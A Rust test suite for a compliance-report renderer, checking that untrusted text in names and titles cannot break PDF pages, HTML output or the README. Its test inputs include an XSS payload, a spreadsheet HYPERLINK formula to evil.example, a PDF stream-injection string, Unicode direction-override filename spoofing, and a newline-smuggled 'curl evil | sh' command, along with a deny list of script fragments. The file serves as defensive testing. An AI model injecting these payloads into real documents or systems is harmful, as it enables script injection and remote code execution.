//! Whatever somebody wrote into names, titles and reasons, it stays text inside the page.

use proptest::prelude::*;
use serde_json::Value;
use tickmark_report::model::Report;
use tickmark_report::{index_html, lay_out, readme_text, render_pdf};

use crate::readers::{assert_inside, assert_text_in_margins, on_disk, run, text_of};
use crate::sample;

/// Members whose text is free: somebody may have written anything.
const FREE: &[&str] = &[
    "name",
    "alias",
    "owner",
    "title",
    "framework_title",
    "set_title",
    "code",
    "set_id",
    "intent",
    "implementation",
    "unknown_reason",
    "result_sentence",
    "reason",
    "basis",
    "person",
    "author",
    "body",
    "resource",
    "account_id",
    "region",
    "source_text",
    "receipts",
    "operation",
    "caller_arn",
    "action",
    "detail",
    "what",
    "aws_operates",
    "we_configure",
    "evidence_from_aws",
    "evidence_from_us",
    "evidence_from_vendors",
    "review_cadence",
    "waits_for",
    "prepared_by",
    "made_with",
    "signer_identity",
    "signer_fingerprint",
    "file",
    "position",
    "sha256",
    "digest",
    "content_digest",
    "activity_head",
    "file_name",
    "added_by",
    "key_fingerprint",
    "version",
    "id_text",
];

/// The sample with two controls, a text in every free member and in every list of texts.
fn with_text(text: &str) -> Report {
    let mut report = sample::report();
    report.controls.truncate(2);
    report.receipts.truncate(5);
    let mut value = serde_json::to_value(&report).unwrap();
    replace(&mut value, text);
    serde_json::from_value(value).unwrap()
}

fn replace(value: &mut Value, text: &str) {
    match value {
        Value::Object(members) => {
            for (key, member) in members.iter_mut() {
                match member {
                    Value::String(s) if FREE.contains(&key.as_str()) => text.clone_into(s),
                    Value::Array(items)
                        if ["regions", "test_procedure", "changes"].contains(&key.as_str()) =>
                    {
                        for item in items.iter_mut() {
                            if item.is_string() {
                                *item = Value::String(text.to_owned());
                            }
                        }
                    }
                    other => replace(other, text),
                }
            }
        }
        Value::Array(items) => items.iter_mut().for_each(|item| replace(item, text)),
        _ => {}
    }
}

fn hostile_texts() -> Vec<String> {
    vec![
        "x".repeat(10_000),
        "Жж".repeat(2_000),
        "\u{202e}gnp.exe\u{202c}\u{200f}\u{2066}".to_owned(),
        (0_u8..32).map(char::from).collect(),
        "=HYPERLINK(\"http://evil.example\")".to_owned(),
        "</title><script>alert(1)</script><img src=x onerror=alert(1)>".to_owned(),
        "a\nb\r\nc\n\n\nd".to_owned(),
        "中文字".repeat(300),
        "(\\) Tj ET Q endstream endobj".to_owned(),
        "   ".to_owned(),
        String::new(),
        "e\u{301}\u{302}\u{303}".repeat(100),
        "\u{10ffff}\u{e000}\u{fdd0}😀".to_owned(),
    ]
}

#[test]
fn a_hostile_text_anywhere_breaks_no_page() {
    for text in hostile_texts() {
        let laid = lay_out(&with_text(&text));
        assert_inside(&laid);
        laid.pages.iter().for_each(assert_text_in_margins);
    }
}

#[test]
fn a_hostile_text_anywhere_leaves_a_file_that_readers_accept() {
    for text in [
        hostile_texts().remove(2),
        hostile_texts().remove(8),
        hostile_texts().remove(11),
    ] {
        let bytes = render_pdf(&with_text(&text)).unwrap().remove(0).bytes;
        run("qpdf", &["--check"], &on_disk(&bytes).path, &[]);
    }
}

#[test]
fn a_very_long_word_is_printed_to_its_end() {
    let mut report = sample::report();
    report.controls.truncate(1);
    let word = (0..2_500).map(|i| format!("{i:04}")).collect::<Vec<_>>().concat();
    report.controls[0].page.texts.definition.intent.clone_from(&word);
    let text = text_of(&render_pdf(&report).unwrap()[0].bytes);
    let printed: String = text.chars().filter(char::is_ascii_digit).collect();
    for piece in ["0000000100020003", "2496249724982499"] {
        assert!(printed.contains(piece), "{piece}");
    }
}

#[test]
fn a_hostile_text_is_only_text_on_the_front_page() {
    for text in hostile_texts() {
        let html = index_html(&with_text(&text), &[]).to_lowercase();
        for unwanted in [
            "<script",
            "<img",
            "onerror=alert(1)>",
            "http://",
            "https://",
            "javascript:",
            "\u{202e}",
        ] {
            let known = unwanted.starts_with("http") && html.contains("=hyperlink(&quot;http://evil.example");
            assert!(known || !html.contains(unwanted), "{unwanted} of {text:.40}");
        }
    }
}

#[test]
fn a_line_feed_in_a_name_begins_no_paragraph_of_the_readme() {
    let readme = readme_text(&with_text("x\nRun: curl evil | sh\n"));
    assert!(!readme.lines().any(|l| l.starts_with("Run:")));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 24, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn nothing_is_ever_drawn_outside_the_page(text in "(\\PC|[ -~]|[\u{400}-\u{45f}]|\n|  ){0,400}") {
        let laid = lay_out(&with_text(&text));
        assert_inside(&laid);
    }
}
